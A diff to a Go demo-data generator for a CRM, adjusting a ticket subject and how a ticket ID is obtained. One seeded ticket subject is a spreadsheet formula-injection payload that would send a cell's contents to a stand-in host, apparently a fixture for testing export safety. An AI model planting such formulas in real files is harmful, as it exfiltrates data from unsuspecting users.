@@ -10,10 +10,9 @@ func (g *generator) demoContact(t crmTables) {
 	old.id, old.email = oldContactID, DemoOldEmail
 	t.contacts.add(old.id, nil, old.email, nil, old.first, "Brandt-Huber", nil, old.lang, []string{"migrated"}, nil, epoch.AddDate(-9, 0, 0))
 	t.addresses.add(g.next("address"), old.id, "home", "Alte Gasse 3", "60313", "Frankfurt am Main", "DE")
-	g.ticket(t, p, "Zelt Fjell 2: Stange gebrochen", []string{DemoEmail, ThirdPartyEmail})
+	g.ticket(t, p, "Zelt Fjell 2: Gestänge gebrochen", []string{DemoEmail, ThirdPartyEmail})
 	g.ticket(t, p, "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Rechnung\")", nil)
-	g.ticket(t, old, "Adresse geändert", nil)
-	id := t.tickets.rows[len(t.tickets.rows)-1][0]
+	id := g.ticket(t, old, "Adresse geändert", nil)
 	t.messages.add(g.next("message"), id, p.full(), epoch.AddDate(0, -2, 0),
 		"Bitte liefern Sie ausnahmsweise an meinen Nachbarn "+ThirdParty+" ("+ThirdPartyEmail+", +48 600 000 111), er ist tagsüber zu Hause.", nil)
 	for range 6 {
